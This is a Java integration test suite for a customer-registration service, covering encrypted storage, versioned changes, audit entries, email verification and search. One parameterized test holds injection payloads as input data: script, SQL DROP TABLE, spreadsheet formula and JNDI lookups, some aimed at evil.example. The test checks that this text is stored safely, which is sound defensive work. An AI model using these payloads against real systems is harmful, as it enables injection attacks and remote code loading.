package org.daybook.core.customer;

import static org.assertj.core.api.Assertions.assertThat;
import static org.daybook.core.customer.CustomerForms.EVA;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.util.List;
import java.util.Set;
import java.util.function.Supplier;
import org.daybook.core.CoreConfiguration;
import org.daybook.core.calendar.BusinessDates;
import org.daybook.core.customer.CustomerChange.Changed;
import org.daybook.core.customer.CustomerChange.ChangedMeanwhile;
import org.daybook.core.customer.Registration.Registered;
import org.daybook.core.security.Authority;
import org.daybook.core.security.Principal;
import org.daybook.core.security.Role;
import org.daybook.core.test.AdjustableClock;
import org.daybook.core.test.Books;
import org.daybook.core.test.Together;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.autoconfigure.EnableAutoConfiguration;
import org.springframework.boot.flyway.autoconfigure.FlywayAutoConfiguration;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Import;
import org.springframework.context.annotation.Primary;
import org.springframework.transaction.support.TransactionTemplate;

class CustomerDeskIntegrationTests {

    private static final Principal TINA = Principal.staff("tina", Set.of(Role.TELLER));
    private static final LocalDate DAY = LocalDate.of(2026, 3, 2);

    private Books books;
    private CustomerDesk desk;
    private AdjustableClock clock;

    /** No stereotype: the core's component scan would find it in every other test. */
    @EnableAutoConfiguration(exclude = FlywayAutoConfiguration.class)
    @Import(CoreConfiguration.class)
    static class WithStandingClock {

        @Bean
        @Primary
        AdjustableClock adjustableClock() {
            return new AdjustableClock();
        }
    }

    @BeforeEach
    void openBooks() {
        books = Books.open(WithStandingClock.class);
        books.bean(BusinessDates.class).advanceTo(DAY, "test");
        desk = books.bean(CustomerDesk.class);
        clock = books.bean(AdjustableClock.class);
    }

    @AfterEach
    void closeBooks() {
        books.close();
    }

    @Test
    void registersACustomer() {
        Registered registered = registered(EVA.named("  Eva Nováková "));

        CustomerFile file = find(registered.reference());
        assertThat(registered.reference()).matches("D[0-9]{10}");
        assertThat(Long.parseLong(registered.reference().substring(1)) % 97).isEqualTo(1);
        assertThat(file.form()).isEqualTo(EVA.form());
        assertThat(file.version()).isEqualTo(new CustomerFile.Version(DAY, 1));
        assertThat(file.emailStanding()).isEqualTo(EmailStanding.UNVERIFIED);
        assertThat(file.recordedBy()).isEqualTo("tina");
        assertThat(file)
                .hasToString("the file of customer " + registered.customer().value());
        assertThat(EVA.form()).hasToString("a customer's form");
    }

    @Test
    void keepsPersonalDataAsCiphertext() {
        registered(EVA);

        String row = new String(books.asRoot().sql("""
                                SELECT CONCAT(birth_date_cipher, email_cipher, email_index, phone_cipher, address_cipher)
                                FROM customer_version""").query(byte[].class).single(), StandardCharsets.ISO_8859_1);
        assertThat(row).doesNotContain("1984", "mailbox", "603", "Lipov", "Brno");
    }

    @Test
    void registersNobodyWithAFaultyForm() {
        assertThat(register(EVA.named("").withPhone("1")))
                .isEqualTo(new Registration.Unfit(List.of(CustomerFault.NAME_LENGTH, CustomerFault.PHONE_FORM)));
        assertThat(count("customer")).isZero();
        assertThat(count("audit_entry WHERE actor_name <> 'test'")).isZero();
    }

    @Test
    void registersNobodyTwice() {
        String reference = registered(EVA).reference();

        assertThat(register(EVA)).isEqualTo(new Registration.AlreadyOnFile(reference));
        assertThat(register(EVA.withEmail("EVA.NOVAKOVA@mailbox.example").livingAt("Jiná 1", null, "Praha", "CZ")))
                .isEqualTo(new Registration.AlreadyOnFile(reference));
        assertThat(register(EVA.withEmail("other@mailbox.example")))
                .isEqualTo(new Registration.AlreadyOnFile(reference));
        assertThat(register(EVA.withEmail("other@mailbox.example").livingAt("Jiná 1", null, "Praha", "CZ")))
                .isInstanceOf(Registered.class);
        assertThat(register(EVA.born(LocalDate.of(1984, 5, 18)))).isInstanceOf(Registered.class);
        assertThat(count("customer")).isEqualTo(3);
    }

    @Test
    void changesAreVersionsOfWhichADaysLastHolds() {
        String reference = registered(EVA).reference();

        changed(reference, EVA.withPhone("+420 777 000 111"));
        changed(reference, EVA.withPhone("+420 777 000 222"));
        clock.advance(Duration.ofDays(3));
        books.bean(BusinessDates.class).advanceTo(DAY.plusDays(3), "test");
        changed(reference, EVA.withPhone("+420 777 000 333"));

        List<CustomerFile> history = as(() -> desk.history(reference));
        assertThat(history)
                .extracting(CustomerFile::version, CustomerFile::phone)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(
                                new CustomerFile.Version(DAY.plusDays(3), 1), "+420 777 000 333"),
                        org.assertj.core.groups.Tuple.tuple(new CustomerFile.Version(DAY, 3), "+420 777 000 222"),
                        org.assertj.core.groups.Tuple.tuple(new CustomerFile.Version(DAY, 2), "+420 777 000 111"),
                        org.assertj.core.groups.Tuple.tuple(new CustomerFile.Version(DAY, 1), "+420 603 123 456"));
        assertThat(phone(reference, DAY.minusDays(9))).isEqualTo("+420 777 000 222");
        assertThat(phone(reference, DAY.plusDays(2))).isEqualTo("+420 777 000 222");
        assertThat(phone(reference, DAY.plusDays(3))).isEqualTo("+420 777 000 333");
    }

    @Test
    void nameOfNowIsPublished() {
        String reference = registered(EVA).reference();

        changed(reference, EVA.named("Eva Veselá"));
        changed(reference, EVA.named("Eva Smutná"));

        assertThat(books.asRoot()
                        .sql("SELECT full_name FROM customer_name_published")
                        .query(String.class)
                        .list())
                .containsExactly("Eva Smutná");
    }

    @Test
    void refusesChangesOneByOne() {
        String reference = registered(EVA).reference();
        CustomerFile file = find(reference);
        CustomerForms other = EVA.withPhone("+420 777 000 111");

        assertThat(as(() -> desk.change("nobody", file.version(), other.form())))
                .isEqualTo(new CustomerChange.CustomerUnknown());
        assertThat(as(() -> desk.change("nönsens", file.version(), other.form())))
                .isEqualTo(new CustomerChange.CustomerUnknown());
        assertThat(as(() -> desk.change(reference, file.version(), EVA.form())))
                .isEqualTo(new CustomerChange.Unchanged());
        assertThat(as(() ->
                        desk.change(reference, file.version(), other.named("").form())))
                .isEqualTo(new CustomerChange.Unfit(List.of(CustomerFault.NAME_LENGTH)));
        assertThat(as(() -> desk.change(
                        reference,
                        file.version(),
                        other.born(LocalDate.of(1990, 1, 1)).form())))
                .isEqualTo(new CustomerChange.Unfit(List.of(CustomerFault.BIRTH_DATE_FIXED)));
        changed(reference, other);
        assertThat(as(() -> desk.change(reference, file.version(), EVA.named("").form())))
                .isInstanceOfSatisfying(
                        ChangedMeanwhile.class,
                        meanwhile -> assertThat(meanwhile.file().phone()).isEqualTo("+420 777 000 111"));
        assertThat(count("customer_version")).isEqualTo(2);
    }

    @Test
    void ofManyWhoChangeTheSameVersionOneDoes() throws Exception {
        String reference = registered(EVA).reference();
        CustomerFile.Version seen = find(reference).version();

        List<CustomerChange> outcomes = Together.run(
                8,
                thread -> List.of(as(() -> desk.change(
                        reference,
                        seen,
                        EVA.withPhone("+420 777 000 00" + thread).form()))));

        assertThat(outcomes.stream().filter(Changed.class::isInstance)).hasSize(1);
        assertThat(outcomes.stream().filter(ChangedMeanwhile.class::isInstance)).hasSize(7);
        assertThat(count("customer_version")).isEqualTo(2);
    }

    @Test
    void auditNamesFieldsAndNoValues() {
        String reference = registered(EVA).reference();

        changed(reference, EVA.withEmail("eva@other.example").livingAt("Nová 1", "110 00", "Praha", "CZ"));

        assertThat(books.asRoot().sql("""
                                SELECT CONCAT_WS(' ', actor_name, action, subject_kind, subject_reference, details)
                                FROM audit_entry WHERE actor_name <> 'test' ORDER BY sequence""").query(String.class).list())
                .filteredOn(entry -> !entry.contains("CODE"))
                .containsExactly(
                        "tina CUSTOMER_REGISTERED customer " + reference + " ",
                        "tina CONTACT_DATA_CHANGED customer " + reference + " fields=email address\n");
    }

    @Test
    void mailGoesToTheAddressThatWasProvedLast() {
        Registered eva = registered(EVA);
        Customers customers = books.bean(Customers.class);

        assertThat(email(eva)).isNull();
        verify(eva, "eva.novakova@mailbox.example");
        assertThat(email(eva)).isEqualTo("eva.novakova@mailbox.example");
        changed(eva.reference(), EVA.withEmail("eva@other.example"));
        assertThat(email(eva)).isEqualTo("eva.novakova@mailbox.example");
        assertThat(customers.verifiedEmail(eva.customer())).contains("eva.novakova@mailbox.example");
        assertThat(verify(eva, "eva.novakova@mailbox.example")).isFalse();
        assertThat(verify(eva, "eva@other.example")).isTrue();
        assertThat(email(eva)).isEqualTo("eva@other.example");
        changed(eva.reference(), EVA.withEmail("eva@other.example").withPhone(""));
        assertThat(find(eva.reference()).emailStanding()).isEqualTo(EmailStanding.VERIFIED);
    }

    @Test
    void findsByNameReferenceAndEmail() {
        String eva = registered(EVA).reference();
        String adam = registered(EVA.named("Adam Příkopa").withEmail("adam_100%@mailbox.example"))
                .reference();

        assertThat(found("novakova eva")).containsExactly(eva);
        assertThat(found("PRIKOP")).containsExactly(adam);
        assertThat(found("D")).containsExactlyInAnyOrder(adam, eva);
        assertThat(found(eva)).containsExactly(eva);
        assertThat(found(" Eva.Novakova@MAILBOX.example ")).containsExactly(eva);
        assertThat(found("novakova@mailbox.example")).isEmpty();
        assertThat(found("%")).isEmpty();
        assertThat(found("  ")).isEmpty();
        assertThat(as(() -> desk.search("a", 1, 1)))
                .extracting(CustomerFile::reference)
                .containsExactly(eva);
        changed(eva, EVA.named("Eva Veselá").withEmail("eva@other.example"));
        assertThat(found("novakova")).isEmpty();
        assertThat(found("eva.novakova@mailbox.example")).isEmpty();
        assertThat(found("eva@other.example")).containsExactly(eva);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "Robert'); DROP TABLE customer;--",
                "=HYPERLINK(\"http://evil.example\")",
                "{{7*7}} ${jndi:ldap://evil.example/a}",
                "\\%_' OR '1'='1",
                "Zoë 🙂 Ψ 陈伟 ﷽"
            })
    void showsHostileTextAsItWasTyped(String text) {
        CustomerForms hostile = EVA.named(text).livingAt(text, "<b>", text, "CZ");
        String reference = registered(hostile).reference();

        assertThat(find(reference).form()).isEqualTo(hostile.form());
        assertThat(found(text.strip())).containsExactly(reference);
        assertThat(count("customer")).isEqualTo(1);
    }

    private Registration register(CustomerForms form) {
        return as(() -> desk.register(form.form()));
    }

    private Registered registered(CustomerForms form) {
        return (Registered) register(form);
    }

    private CustomerFile find(String reference) {
        return as(() -> desk.find(reference)).orElseThrow();
    }

    private void changed(String reference, CustomerForms form) {
        assertThat(as(() -> desk.change(reference, find(reference).version(), form.form())))
                .isInstanceOf(Changed.class);
    }

    private boolean verify(Registered customer, String email) {
        return Boolean.TRUE.equals(books.bean(TransactionTemplate.class).execute(status -> books.bean(Customers.class)
                .emailVerified(customer.customer(), email, TINA.actor())));
    }

    private String email(Registered customer) {
        return books.bean(Customers.class)
                .contacts(List.of(customer.customer()), DAY.plusDays(9))
                .get(customer.customer())
                .email();
    }

    private String phone(String reference, LocalDate day) {
        return books.bean(Customers.class)
                .onFile(List.of(reference), day)
                .get(reference)
                .phone();
    }

    private List<String> found(String text) {
        return as(() -> desk.search(text, 0, 10)).stream()
                .map(CustomerFile::reference)
                .toList();
    }

    private long count(String table) {
        return books.asRoot()
                .sql("SELECT COUNT(*) FROM " + table)
                .query(Long.class)
                .single();
    }

    private <T> T as(Supplier<T> work) {
        return books.bean(Authority.class).actingAs(TINA, work);
    }
}
